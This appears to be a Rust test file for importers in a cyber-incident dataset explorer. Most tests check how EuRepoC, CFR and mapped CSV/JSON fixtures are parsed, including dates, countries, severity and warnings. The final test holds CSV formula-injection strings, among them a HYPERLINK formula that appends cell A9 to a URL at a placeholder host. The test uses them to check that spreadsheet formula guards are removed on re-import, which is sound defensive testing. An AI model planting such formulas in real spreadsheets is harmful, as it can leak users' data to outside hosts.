//! The EuRepoC, CFR and mapped importers on small fixtures written for each quirk of the format
//! (tests/fixtures/{eurepoc,cfr,mapped}), with every expected figure worked out by hand.
#![cfg(not(target_arch = "wasm32"))]

#[path = "common/shared.rs"]
mod shared;

use cyber_spectrum::import::{self, Format, Mapping};
use cyber_spectrum::{Explorer, Filter};

const EUREPOC: &str = include_str!("fixtures/eurepoc/sample.csv");
const CFR_MDY: &str = include_str!("fixtures/cfr/mdy.csv");
const CFR_ISO: &str = include_str!("fixtures/cfr/iso.csv");
const MAPPED_CSV: &str = include_str!("fixtures/mapped/newsroom.csv");
const MAPPED_JSON: &str = include_str!("fixtures/mapped/newsroom.json");

fn warnings_at(ex: &Explorer, row: usize) -> Vec<String> {
    ex.warnings().iter().filter(|w| w.row == row).map(|w| format!("{}: {}", w.column, w.message)).collect()
}

fn mapping() -> Mapping {
    Mapping::new([
        ("start", "When"),
        ("initiator", "Attacker"),
        ("targets", "Victim country"),
        ("severity", "Score"),
        ("name", "Headline"),
        ("sources", "Link"),
        ("method", "Kind"),
        ("description", ""),
    ])
    .unwrap()
}

#[test]
fn auto_detection_recognises_each_format_from_its_header() {
    for (text, name) in
        [(EUREPOC, "eurepoc"), (CFR_MDY, "cfr"), (CFR_ISO, "cfr"), (include_str!("fixtures/small.csv"), "csv")]
    {
        assert_eq!(Format::detect(text).unwrap().name(), name);
        assert_eq!(Explorer::from_text(text, "auto").unwrap().facets().source, name);
    }
    let err = Format::detect(MAPPED_CSV).unwrap_err().to_string();
    assert!(err.contains("Headline,When,Attacker") && err.contains("column mapping"), "{err}");
    assert!(Format::from_name("cfr").is_ok() && Format::from_name("mapped").is_ok());
    assert!(Format::from_name("eurepoc2")
        .unwrap_err()
        .to_string()
        .contains("auto, csv, json, dcid, eurepoc, cfr, mapped"));
}

#[test]
fn a_downloaded_selection_with_its_preamble_loads_back() {
    // The explorer's CSV download starts with '#' lines (dataset, filters, date, citation).
    let small = include_str!("fixtures/small.csv");
    let with = format!("\u{feff}# cyber-spectrum: 6 incidents\n# Filters: none\r\n#\n{small}");
    assert_eq!(Format::detect(&with).unwrap().name(), "csv");
    let ex = Explorer::from_text(&with, "auto").unwrap();
    let plain = Explorer::from_text(small, "auto").unwrap();
    assert_eq!(ex.all(), plain.all());
    assert!(ex.warnings().is_empty());
    // Only lines before the header are a preamble: a '#' later is data, read and checked as such.
    let later = format!("{small}#x,Hash,2015-01-01,,PRK,KOR,,,,3,,,,,https://example.org/h\n");
    assert_eq!(Explorer::from_text(&later, "auto").unwrap().all().len(), plain.all().len() + 1);
}

#[test]
fn eurepoc_keeps_its_own_scale_and_every_usable_row() {
    let ex = Explorer::from_text(EUREPOC, "eurepoc").unwrap();
    let f = ex.facets();
    // Seven rows, all kept; 105 has no usable date at all and is undated, with a warning.
    assert_eq!(f.total, 7);
    assert!(warnings_at(&ex, 5).iter().any(|w| w.starts_with("start_date") && w.contains("kept as undated")));
    // Its own scale, up to the highest score in the file (5), with no thresholds.
    assert_eq!((f.scale.key, f.scale.max, f.scale.readings, f.readings.len()), ("eurepoc-intensity", 5, false, 0));
    assert!(f.scale.name.contains("not the 0-10 ladder"));
    let s = ex.stats(&Filter::default()).unwrap();
    assert_eq!(s.severity_counts, [0, 2, 1, 0, 2, 1]); // 1, 1, 2, 3.5->4, 4, 5; one not available
    assert_eq!((s.not_coded, s.at_or_above_use_of_force, s.reading), (1, None, None));
    // A reading is still checked, so a typo is an error here too, but it applies to nothing.
    let french = Filter { reading: Some("france".into()), ..Filter::default() };
    assert_eq!(ex.stats(&french).map(|s| s.reading).ok(), Some(None));
    assert!(ex.compare(&Filter::default()).unwrap().is_empty());
    let records = ex.records(&Filter::default()).unwrap();
    let by_id = |id: &str| records.iter().find(|r| r.id == id).unwrap_or_else(|| panic!("{id} missing"));
    let studio = by_id("eurepoc-101");
    assert_eq!((studio.initiator, studio.targets.clone(), studio.severity), ("PRK", vec!["USA"], Some(5)));
    assert_eq!(studio.sources.len(), 2);
    assert_eq!(studio.severity_label, None, "no ladder names on another scale");
    // Several initiators: the first counts, the rest are named in a warning.
    assert_eq!(by_id("eurepoc-102").initiator, "RUS");
    assert!(warnings_at(&ex, 2).iter().any(|w| w.contains("2 initiator states (Russia, China)")));
    // Nested receiver lists, several receivers; a fraction rounded with a warning.
    let phishing = by_id("eurepoc-103");
    assert_eq!((phishing.targets.clone(), phishing.severity), (vec!["KOR", "JPN"], Some(4)));
    assert_eq!(phishing.target_type.map(|t| t.slug()), Some("military"));
    assert!(warnings_at(&ex, 3).iter().any(|w| w.contains("'3.5' rounded to 4")));
    // Blank start: undated (its attribution date says when it was attributed, not when it began);
    // "Not available" initiator is unknown, silently.
    let undated = by_id("eurepoc-104");
    assert_eq!(
        (undated.start.as_str(), undated.precision, undated.initiator, undated.severity),
        ("", "unknown", "XXX", None)
    );
    assert_eq!(undated.attribution_date.as_deref(), Some("2021-07-08"));
    assert_eq!(warnings_at(&ex, 4).len(), 1, "{:?}", warnings_at(&ex, 4));
    // Undated incidents count in the figures, not in the years; narrowing the years leaves them out.
    let s = ex.stats(&Filter::default()).unwrap();
    assert_eq!((s.total, s.undated, s.by_year.iter().map(|y| y.count).sum::<usize>()), (7, 2, 5));
    let years = Filter { from: Some(2000), ..Filter::default() };
    assert_eq!(ex.stats(&years).unwrap().total, 5);
    // They come last in time order.
    assert!(records[records.len() - 2..].iter().all(|r| r.start.is_empty()));
    // An unknown receiver is kept as unknown beside the known one; the escaped quote is read.
    let atlantis = by_id("eurepoc-106");
    assert_eq!((atlantis.initiator, atlantis.targets.clone()), ("PRK", vec!["XXX", "KOR"]));
    assert!(warnings_at(&ex, 6).iter().any(|w| w.contains("unknown country 'Atlantis'")));
    assert!(warnings_at(&ex, 6).iter().any(|w| w.starts_with("end_date") && w.contains("before it starts")));
    // A repeated ID keeps both incidents.
    assert_eq!(by_id("eurepoc-101-2").name, "Repeated id");
    assert!(warnings_at(&ex, 7).iter().any(|w| w.contains("kept as 'eurepoc-101-2'")));
    // Severity filters work on this scale, and refuse values above its top.
    let high = Filter { min_severity: Some(4), ..Filter::default() };
    assert_eq!(ex.stats(&high).unwrap().total, 3);
    let err = ex.stats(&Filter { min_severity: Some(6), ..Filter::default() }).unwrap_err().to_string();
    assert!(err.contains("minSeverity") && err.contains("EuRepoC"), "{err}");
}

#[test]
fn cfr_reads_both_date_styles_and_realigns_shifted_rows() {
    let ex = Explorer::from_text(CFR_MDY, "auto").unwrap();
    assert_eq!(ex.facets().total, 6, "six rows, one without any date: kept undated");
    assert!(warnings_at(&ex, 6).iter().any(|w| w.starts_with("Date") && w.contains("kept as undated")));
    let records = ex.records(&Filter::default()).unwrap();
    let by_name = |n: &str| records.iter().find(|r| r.name == n).unwrap_or_else(|| panic!("{n} missing"));
    let shifted = by_name("Fixture shifted row, with a comma");
    assert_eq!(shifted.start, "2009-07-04");
    assert_eq!((shifted.initiator, shifted.targets.clone()), ("PRK", vec!["KOR", "USA"]));
    assert_eq!(shifted.method.map(|m| m.slug()), Some("ddos"));
    assert!(warnings_at(&ex, 3).iter().any(|w| w.contains("shifted 1 column to the right")));
    let wipe = by_name("Fixture broadcaster wipe");
    assert_eq!((wipe.start.as_str(), wipe.targets.clone(), wipe.severity), ("2013-03-20", vec!["KOR"], None));
    assert_eq!(wipe.sources.len(), 2);
    assert_eq!(wipe.target_type.map(|t| t.slug()), Some("government"));
    let heist = by_name("Fixture bank heist");
    assert_eq!((heist.targets.clone(), heist.objective.map(|o| o.slug())), (vec!["XXX"], Some("theft")));
    assert!(heist.description.contains("Actor: Lazarus Group"));
    assert!(warnings_at(&ex, 4).iter().any(|w| w.contains("unknown country 'Atlantis'")));
    assert!(warnings_at(&ex, 5).iter().any(|w| w.starts_with("Type") && w.contains("'ransomware'")));
    // No severity in CFR: every incident is counted as not coded, and still filterable.
    let s = ex.stats(&Filter::default()).unwrap();
    assert_eq!((s.total, s.not_coded, s.max_severity, s.undated), (6, 6, None, 1));
    let prk = Filter { initiators: Some(vec!["PRK".into()]), ..Filter::default() };
    assert_eq!(ex.stats(&prk).unwrap().total, 3);

    let iso = Explorer::from_text(CFR_ISO, "cfr").unwrap();
    let r = iso.records(&Filter::default()).unwrap();
    assert_eq!(r.iter().map(|r| r.start.as_str()).collect::<Vec<_>>(), ["2017-05-12", "2018-02-09"]);
    assert_eq!((r[1].initiator, r[1].targets.clone()), ("RUS", vec!["KOR"]));
    assert!(iso.warnings().is_empty(), "{:?}", iso.warnings());
}

#[test]
fn mapped_csv_and_json_read_through_a_column_mapping() {
    let ex = Explorer::from_mapped(MAPPED_CSV.as_bytes(), &mapping()).unwrap();
    assert_eq!(ex.facets().source, "mapped");
    assert_eq!(ex.facets().total, 5, "five rows, one without a date: kept undated");
    assert!(warnings_at(&ex, 5).iter().any(|w| w.starts_with("When") && w.contains("kept as undated")));
    let r = ex.records(&Filter::default()).unwrap();
    let codes: Vec<(&str, &str, Vec<&str>)> =
        r.iter().map(|r| (r.start.as_str(), r.initiator, r.targets.clone())).collect();
    assert_eq!(
        codes,
        [
            ("2011-03", "PRK", vec!["KOR"]),
            ("2020", "PRK", vec!["XXX"]),
            ("2023-06-11", "PRK", vec!["KOR", "USA"]),
            ("2024-05-02", "PRK", vec!["JPN"]),
            ("", "PRK", vec!["KOR"]),
        ]
    );
    assert_eq!(r[0].method.map(|m| m.slug()), Some("ddos"));
    assert_eq!(r[2].sources.len(), 2);
    assert_eq!(r[2].id, "row-2");
    // Row 4: unknown victim, severity above the ladder, a method outside the vocabulary.
    let w4 = warnings_at(&ex, 4);
    assert!(w4.iter().any(|w| w.starts_with("Victim country") && w.contains("'Atlantis'")), "{w4:?}");
    assert!(w4.iter().any(|w| w.starts_with("Score") && w.contains("'12'")), "{w4:?}");
    assert!(w4.iter().any(|w| w.starts_with("Kind") && w.contains("'spying'")), "{w4:?}");
    assert_eq!(r[1].severity, None);

    let json = Explorer::from_mapped(MAPPED_JSON.as_bytes(), &mapping()).unwrap();
    let j = json.records(&Filter::default()).unwrap();
    assert_eq!(j.len(), 3);
    assert_eq!((j[0].initiator, j[0].targets.clone(), j[0].severity), ("PRK", vec!["KOR"], None));
    assert_eq!(j[1].targets, ["KOR", "USA"]);
    assert!(json.warnings().is_empty(), "{:?}", json.warnings());
}

#[test]
fn mapping_mistakes_are_named() {
    let err = Mapping::new([("start", "When"), ("attacker", "Attacker")]).unwrap_err().to_string();
    assert!(err.contains("unknown field 'attacker'") && err.contains("initiator"), "{err}");
    let err = Mapping::new([("start", "When")]).unwrap_err().to_string();
    assert!(err.contains("initiator"), "{err}");
    let m = Mapping::new([("start", "Date"), ("initiator", "Attacker")]).unwrap();
    let err = Explorer::from_mapped(MAPPED_CSV.as_bytes(), &m).err().unwrap().to_string();
    assert!(err.contains("'start' in column 'Date'") && err.contains("Headline, When"), "{err}");
    assert!(
        Mapping::new([("target_type", "Kind"), ("start", "When"), ("initiator", "A")]).is_ok(),
        "snake_case accepted"
    );
    assert!(import::parse(MAPPED_CSV, Some(Format::Mapped), None)
        .unwrap_err()
        .to_string()
        .contains("needs a column mapping"));
}

#[test]
fn columns_lists_a_files_header_for_the_mapping_form() {
    assert_eq!(
        import::columns(MAPPED_CSV.as_bytes()).unwrap(),
        ["Headline", "When", "Attacker", "Victim country", "Score", "Kind", "Link", "Notes"]
    );
    assert_eq!(
        import::columns(MAPPED_JSON.as_bytes()).unwrap(),
        ["Headline", "When", "Attacker", "Victim country", "Score", "Kind", "Link"]
    );
}

/// The importer module hands data to the explorer module as columns (Store parts) plus the scale and
/// warnings: that hand-over must lose nothing, for every format.
#[test]
fn every_format_survives_the_handover_between_wasm_modules() {
    let mut cases: Vec<(String, Explorer)> = vec![
        ("eurepoc".into(), Explorer::from_text(EUREPOC, "auto").unwrap()),
        ("cfr".into(), Explorer::from_text(CFR_MDY, "auto").unwrap()),
        ("mapped".into(), Explorer::from_mapped(MAPPED_CSV.as_bytes(), &mapping()).unwrap()),
        ("dcid quirks".into(), Explorer::from_text(include_str!("fixtures/dcid/quirks.csv"), "dcid").unwrap()),
        ("xlsx".into(), Explorer::from_bytes(include_bytes!("fixtures/xlsx/small.xlsx"), "auto").unwrap()),
        ("bundled".into(), Explorer::bundled().unwrap()),
    ];
    // Without ../shared only the real-DCID case is skipped (the helper says so); the others still run.
    if let Some(real) = shared::shared_file("data/dcid-v2.0/DCID_2.0_Release_update_February_2023.xlsx") {
        let bytes = std::fs::read(&real).unwrap();
        cases.push(("real DCID".into(), Explorer::from_bytes(&bytes, "auto").unwrap()));
    }
    for (what, ex) in cases {
        let f = ex.facets();
        let back = Explorer::from_import(
            ex.to_parts(),
            ex.scale().clone(),
            ex.warnings().to_vec(),
            f.source.clone(),
            ex.packed_responses(),
        )
        .unwrap_or_else(|e| panic!("{what}: the hand-over does not read back: {e}"));
        assert_eq!(back.records(&Filter::default()).unwrap(), ex.records(&Filter::default()).unwrap(), "{what}");
        // The hand-over carries incidents and responses; the bundled context ships with the
        // explorer module itself, never through the importer.
        let mut f = f;
        f.context = 0;
        assert_eq!(back.facets(), f, "{what}");
    }
}

#[test]
fn eurepoc_physical_effects_become_the_incidents_effects() {
    // EuRepoC codes physical effects (spatial and temporal) apart from its intensity: any effect
    // coded is physical; none coded is none, or data for ransomware (files encrypted); "not
    // available" is not coded. Exports without those columns leave effects not coded.
    let ex = Explorer::from_text(include_str!("fixtures/eurepoc/physical.csv"), "eurepoc").unwrap();
    let effects: Vec<(String, Option<&str>)> =
        ex.records(&Filter::default()).unwrap().into_iter().map(|r| (r.id, r.effects.map(|e| e.slug()))).collect();
    assert_eq!(
        effects,
        [
            ("eurepoc-201".to_string(), Some("physical")),
            ("eurepoc-203".to_string(), Some("none")),
            ("eurepoc-204".to_string(), None),
            ("eurepoc-202".to_string(), Some("data")),
        ]
    );
    assert!(ex.warnings().iter().all(|w| !w.column.contains("physical")), "no warning noise");
    let plain = Explorer::from_text(include_str!("fixtures/eurepoc/sample.csv"), "eurepoc").unwrap();
    assert!(plain.all().iter().all(|i| i.effects.is_none()));
    // The project's own CSV without an effects column reads without a word about it.
    assert!(Explorer::from_text(include_str!("fixtures/small.csv"), "csv").unwrap().warnings().is_empty());
}

#[test]
fn the_page_download_reads_back_with_formula_guards_removed() {
    // As www/downloads.js writes it: each preamble line one quoted field, and an apostrophe before
    // text a spreadsheet would run as a formula.
    let text = "\"# Filters: search=zz,\"\"=HYPERLINK(\"\"http://host/x?\"\"&A9,\"\"Click\"\")\"\"\"\r\n\
                \"# The lines starting with # are this note\"\r\n\
                id,name,start,initiator,targets,description,sources\r\n\
                x-1,\"'=HYPERLINK(\"\"http://host\"\",\"\"go\"\")\",2014-11-24,PRK,USA,\"'-2 then '+3, '@me\",https://example.org/a\r\n";
    let ex = Explorer::from_text(text, "csv").unwrap();
    let r = &ex.all()[0];
    assert_eq!(r.name, "=HYPERLINK(\"http://host\",\"go\")");
    assert_eq!(r.description, "-2 then '+3, '@me", "only a leading guard is removed");
    assert!(ex.warnings().is_empty(), "{:?}", ex.warnings());
}
